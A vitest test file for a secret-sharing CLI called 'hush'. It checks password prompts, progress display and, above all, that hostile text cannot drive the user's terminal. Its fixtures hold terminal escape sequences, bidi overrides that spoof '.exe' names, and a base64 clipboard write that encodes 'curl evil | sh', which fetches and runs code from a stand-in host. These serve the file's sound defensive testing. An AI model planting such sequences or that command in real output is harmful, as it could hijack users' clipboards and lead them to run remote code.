import { spawn } from 'node:child_process';
import { mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { createServer, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { cliWorld } from './cli.test-utils.js';

const world = cliWorld({ uploadRestriction: false, anonymousMaxFileBytes: 64 * 1024 * 1024 });

/**
 * Runs a shell command on a pseudo-terminal (util-linux `script`), as a person at a terminal would: each step waits
 * until the screen shows `when`, then types `type`. Returns everything the terminal showed, and the exit code.
 */
function atTerminal(command: string, steps: { when: RegExp; type: string }[], env: Record<string, string> = {}) {
  return new Promise<{ code: number | null; screen: string }>((resolve, reject) => {
    const child = spawn('script', ['-qfec', command, '/dev/null'], {
      env: { PATH: process.env.PATH ?? '', HOME: world.dir, SHELL: '/bin/sh', TERM: 'dumb', ...env },
    });
    let screen = '';
    let shown = 0;
    const pending = [...steps];
    const timer = setTimeout(() => reject(new Error(`stuck at a prompt; the screen shows:\n${screen}`)), 20_000);
    child.stdout.on('data', (chunk: Buffer) => {
      screen += chunk.toString('utf8');
      const step = pending[0];
      if (step && step.when.test(screen.slice(shown))) {
        shown = screen.length;
        pending.shift();
        child.stdin.write(step.type);
      }
    });
    child.on('error', reject);
    child.on('close', (code) => {
      clearTimeout(timer);
      resolve({ code, screen });
    });
  });
}

it('--password-prompt asks twice on the terminal without echo, and open asks again after a wrong password', async () => {
  const input = join(world.dir, 'secret.txt');
  writeFileSync(input, 'behind a typed password');
  const env = { HUSH_SERVER: world.url, HUSH_CONFIG: join(world.dir, 'none.json') };
  // Standard input is the file: the questions go to the terminal itself (/dev/tty).
  const created = await atTerminal(
    `node ${world.cli} create --password-prompt < ${input} > ${join(world.dir, 'link.txt')}`,
    [
      { when: /Password for the secret: $/, type: 'tr0ub4dor&3\r' },
      { when: /Type it again: $/, type: 'tr0ub4dor&3\r' },
    ],
    env,
  );
  expect(created.code, created.screen).toBe(0);
  expect(created.screen).not.toContain('tr0ub4dor');
  const { readFileSync } = await import('node:fs');
  const link = readFileSync(join(world.dir, 'link.txt'), 'utf8').trim();

  const opened = await atTerminal(
    `node ${world.cli} open '${link}'`,
    [
      { when: /Password: $/, type: 'wrong guess\r' },
      { when: /Wrong password \(4 attempts left\)[\s\S]*Password: $/, type: 'tr0ub4dor&3\r' },
    ],
    env,
  );
  expect(opened.code, opened.screen).toBe(0);
  expect(opened.screen).toContain('behind a typed password');
  expect(opened.screen).not.toContain('tr0ub4dor');
  expect(opened.screen).not.toContain('wrong guess');
});

it('two different passwords are asked for again; Ctrl-C at the prompt stops with 130 and sends nothing', async () => {
  const env = { HUSH_SERVER: world.url, HUSH_CONFIG: join(world.dir, 'none.json') };
  const before = await world.t.database.db.selectFrom('secrets').select('id').execute();
  const stopped = await atTerminal(
    `echo text | node ${world.cli} create --password-prompt`,
    [
      { when: /Password for the secret: $/, type: 'one\r' },
      { when: /Type it again: $/, type: 'two\r' },
      { when: /differ; once more\.[\s\S]*Password for the secret: $/, type: '\u0003' },
    ],
    env,
  );
  expect(stopped.code).toBe(130);
  expect(await world.t.database.db.selectFrom('secrets').select('id').execute()).toEqual(before);
});

it('on a terminal, sending and receiving a file show progress on one line; in a pipe nothing of it', async () => {
  const input = join(world.dir, 'progress.bin');
  const { randomBytes } = await import('node:crypto');
  writeFileSync(input, randomBytes(48 * 1024 * 1024));
  const env = { HUSH_SERVER: world.url, HUSH_CONFIG: join(world.dir, 'none.json') };
  const created = await atTerminal(`node ${world.cli} create --file ${input} < /dev/null`, [], env);
  expect(created.code, created.screen).toBe(0);
  expect(created.screen).toMatch(/\rSending progress\.bin \d+% \([\d.]+ MiB of 48 MiB\)/);
  const link = /(http:\S+#encryption_key=[\w-]{43})/.exec(created.screen)![1]!;
  const out = join(world.dir, 'progress-out');
  const { mkdirSync } = await import('node:fs');
  mkdirSync(out);
  const opened = await atTerminal(`node ${world.cli} open '${link}' --out ${out}`, [], env);
  expect(opened.code, opened.screen).toBe(0);
  expect(opened.screen).toMatch(/\rReceiving progress\.bin \d+%/);
  expect(opened.screen).toContain(`Saved ${join(out, 'progress.bin')} (48 MiB)`);
  // Not a terminal: the same command writes no progress.
  const piped = await world.run(['create', '--file', input]);
  expect(piped.stderr).not.toContain('Sending');
  // 48 MiB sent, received and sent again by three CLI processes: seconds on a quiet machine, more beside other suites.
}, 120_000);

/**
 * What a hostile sender or server puts into a text: OSC window title and clipboard write, clear screen, a DCS with
 * its string terminator, 8-bit CSI and NEL, DEL, a lone carriage return, bidi override, embedding and isolates.
 */
const HOSTILE =
  'Invoice \x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2J\x1bPq#0\x1b\\\x9b31m\x85\x7f\u202etxt.exe\u202c\u2066x\u2069\rend';
/** Shorter, for a token's name (64 characters at most). */
const HOSTILE_NAME = 'ci \x1b]0;pwned\x07\x9b2J\u202egnp.exe';

/** Every character of `text` that can drive a terminal or reorder what it shows (line breaks are fine). */
const unsafe = (text: string) =>
  [...text.matchAll(/[\p{Cc}\p{Bidi_C}\u2028\u2029]/gu)].map((m) => m[0]).filter((c) => c !== '\n');

let folders = 0;
const folder = () => {
  const path = join(world.dir, `terminal-${++folders}`);
  mkdirSync(path);
  return path;
};

/** A server that is not Hush, answering every call with `answer` (a hostile server, or one in the middle). */
async function hostileServer(answer: (url: string, response: ServerResponse) => void): Promise<string> {
  const server = createServer((request, response) => {
    request.resume();
    request.on('end', () => answer(request.url ?? '', response));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => new Promise<void>((resolve) => server.close(() => resolve())));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

const json = (response: ServerResponse, status: number, body: unknown) => {
  response.writeHead(status, { 'content-type': 'application/json' });
  response.end(JSON.stringify(body));
};

describe('text from a secret or a server never drives the terminal', () => {
  it('hush open shows a hostile title with its controls made visible, saves a hostile file name without them, and writes the text byte for byte', async () => {
    const file = join(folder(), `report ${HOSTILE}.txt`);
    writeFileSync(file, 'attached');
    const text = `the text ${HOSTILE}\n`;
    const created = await world.run(['create', '--title', HOSTILE, '--file', file], { input: text });
    expect(created.code, created.stderr).toBe(0);
    const out = folder();
    const opened = await world.run(['open', created.out.trim(), '--out', out]);
    expect(opened.code, opened.stderr).toBe(0);
    // Standard output is not a terminal here: the sender's bytes, exactly.
    expect(opened.stdout.equals(Buffer.from(text))).toBe(true);
    expect(unsafe(opened.stderr)).toEqual([]);
    expect(opened.stderr).toContain(
      '# Invoice \\x1b]0;pwned\\x07\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x1b[2J\\x1bPq#0\\x1b\\\\x9b31m\\x85\\x7f\\u202etxt.exe\\u202c\\u2066x\\u2069\\rend\n',
    );
    const saved = readdirSync(out);
    expect(saved).toHaveLength(1);
    expect(unsafe(saved[0]!)).toEqual([]);
    expect(saved[0]).toMatch(/txt\.exex ?end\.txt$/);
  });

  it('hush open --json escapes every control and bidi character, and the values stay exact', async () => {
    const created = await world.run(['create', '--title', HOSTILE], { input: HOSTILE });
    const opened = await world.run(['open', created.out.trim(), '--json']);
    expect(opened.code, opened.stderr).toBe(0);
    expect(unsafe(opened.out)).toEqual([]);
    expect(JSON.parse(opened.out)).toMatchObject({ title: HOSTILE, text: HOSTILE });
  });

  it('a hostile server’s error message and receipt are shown with their controls made visible, in words and in --json', async () => {
    const server = await hostileServer((url, response) => {
      if (!url.startsWith('/api/v1/receipt/')) return json(response, 400, { code: 'secret.hostile', message: HOSTILE });
      const at = '2026-01-01T00:00:00.000Z';
      json(response, 200, {
        ...{ id: 'A'.repeat(22), state: 'open', createdAt: at, expiresAt: at, maxViews: 1, viewsUsed: 1 },
        ...{ preventBurn: false, isPublic: false, fileCount: 0, failedAttempts: [], endedAt: null },
        ...{ views: [{ at, ip: HOSTILE }], endReason: null, keptUntil: null },
      });
    });
    const link = `${server}/secret/${'A'.repeat(22)}#encryption_key=${'A'.repeat(43)}`;
    const words = await world.run(['open', link]);
    expect(words.code).toBe(4);
    expect(unsafe(words.stderr)).toEqual([]);
    expect(words.stderr).toMatch(/^hush: Invoice \\x1b\]0;pwned\\x07.*\\u2069\\rend\n$/);
    const failed = await world.run(['open', link, '--json']);
    expect(unsafe(failed.stderr)).toEqual([]);
    expect(JSON.parse(failed.stderr)).toEqual({ error: { code: 'secret.hostile', message: HOSTILE, exitCode: 4 } });

    const status = await world.run(['status', `${server}/receipt/${'A'.repeat(22)}#${'A'.repeat(43)}`]);
    expect(status.code, status.stderr).toBe(0);
    expect(unsafe(status.out)).toEqual([]);
    expect(status.out).toContain('2026-01-01T00:00:00.000Z from Invoice \\x1b]0;pwned');
  });

  it('tables and requests show titles, names and instructions with their controls made visible', async () => {
    const token = await world.token('hostile', HOSTILE_NAME);
    const env = { HUSH_TOKEN: token };
    const publicSecret = await world.run(['create', '--public', '--title', HOSTILE], { input: 'public', env });
    expect(publicSecret.code, publicSecret.stderr).toBe(0);
    const secrets = await world.run(['secrets'], { env });
    expect(secrets.code, secrets.stderr).toBe(0);
    expect(unsafe(secrets.out)).toEqual([]);
    expect(secrets.out).toContain('public  Invoice \\x1b]0;pwned');
    const tokens = await world.run(['tokens'], { env });
    expect(tokens.code, tokens.stderr).toBe(0);
    expect(unsafe(tokens.out)).toEqual([]);
    expect(tokens.out).toContain('ci \\x1b]0;pwned\\x07\\x9b2J\\u202egnp.exe');

    const request = await world.run(
      ['request', 'create', '--title', HOSTILE.slice(0, 120), '--text', `Two lines:\n${HOSTILE}`, '--json'],
      { env },
    );
    expect(request.code, request.stderr).toBe(0);
    const { fillLink, inboxLink } = JSON.parse(request.out) as { fillLink: string; inboxLink: string };
    const answered = await world.run(['request', 'respond', fillLink], { input: 'the answer' });
    expect(answered.code, answered.stderr).toBe(0);
    expect(unsafe(answered.stderr)).toEqual([]);
    expect(answered.stderr).toContain('hostile asks: Invoice \\x1b]0;pwned');
    // Instructions keep their line breaks, indented under the title.
    expect(answered.stderr).toContain('\n  Two lines:\n  Invoice \\x1b]0;pwned');
    const opened = await world.run(['request', 'open', inboxLink], { env, cwd: folder() });
    expect(opened.code, opened.stderr).toBe(0);
    expect(unsafe(opened.out)).toEqual([]);
    expect(opened.out).toContain('Request: Invoice \\x1b]0;pwned');
  });

  it('on a terminal a text’s control characters are shown, not obeyed, and a note says how to get its bytes', async () => {
    const text = `pass\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07word \u202eexe.txt\r\nsecond line\n`;
    const created = await world.run(['create', '--views', '2'], { input: text });
    const link = created.out.trim();
    const env = { HUSH_SERVER: world.url, HUSH_CONFIG: join(world.dir, 'none.json') };
    const opened = await atTerminal(`node ${world.cli} open '${link}'`, [], env);
    expect(opened.code, opened.screen).toBe(0);
    expect(opened.screen).not.toContain('\x1b]52');
    expect(opened.screen).not.toContain('\u202e');
    expect(opened.screen).toContain('pass\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07word \\u202eexe.txt\r\nsecond line\r\n');
    expect(opened.screen).toContain(
      "The text holds 3 control characters, shown as \\x.. or \\u....: written as they are, they could drive your terminal. For its exact bytes, send it to a file while it has views left: hush open 'LINK' > FILE",
    );
    // In a pipe, the same secret's bytes exactly.
    const piped = await world.run(['open', link]);
    expect(piped.stdout.equals(Buffer.from(text))).toBe(true);
    expect(piped.stderr).toBe('');
  });

  it('on a terminal a content that is no text is saved as ID.bin rather than shown; in a pipe it is the bytes', async () => {
    const { randomBytes } = await import('node:crypto');
    const { readFileSync } = await import('node:fs');
    const bytes = Buffer.concat([Buffer.from([0xff, 0xd8, 0x1b, 0x5d, 0x30, 0x3b]), randomBytes(4090)]);
    const created = await world.run(['create', '--views', '2'], { input: bytes });
    const link = created.out.trim();
    const id = /secret\/([\w-]{22})#/.exec(link)![1]!;
    const out = folder();
    const env = { HUSH_SERVER: world.url, HUSH_CONFIG: join(world.dir, 'none.json') };
    const opened = await atTerminal(`cd ${out} && node ${world.cli} open '${link}'`, [], env);
    expect(opened.code, opened.screen).toBe(0);
    expect(opened.screen).toContain(
      `The secret is not text but data (4.0 KiB): saved as ${join(out, `${id}.bin`)} rather than shown on the terminal`,
    );
    expect(opened.screen).not.toContain('\x1b]0;');
    expect(readFileSync(join(out, `${id}.bin`)).equals(bytes)).toBe(true);
    const piped = await world.run(['open', link], { cwd: folder() });
    expect(piped.stdout.equals(bytes)).toBe(true);
  });
});
